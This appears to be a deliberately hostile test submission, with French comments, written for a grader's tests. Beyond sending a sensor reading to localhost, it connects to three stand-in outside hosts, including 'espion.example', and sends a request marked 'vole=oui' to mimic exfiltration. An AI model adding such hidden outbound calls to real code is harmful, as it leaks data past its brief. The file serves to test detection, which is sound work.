# RENDU HOSTILE, écrit pour les tests du correcteur : ne pas lancer à la main.
# Il résout un nom et se connecte au dehors (TEST-NET-3, RFC 5737), en plus d'envoyer sa mesure.
import json
import random
import socket

for adresse in [("203.0.113.7", 443), ("espion.example", 443), ("2001:db8::7", 443)]:
    try:
        with socket.create_connection(adresse, timeout=1) as s:
            s.sendall(b"GET /?vole=oui HTTP/1.0\r\n\r\n")
    except OSError as e:
        print(adresse[0], ":", e)

mesure = {"capteur_id": "capteur_1", "temperature": round(random.uniform(15, 25), 2)}
with socket.create_connection(("127.0.0.1", 5000), timeout=5) as s:
    s.sendall(json.dumps(mesure).encode() + b"\n")
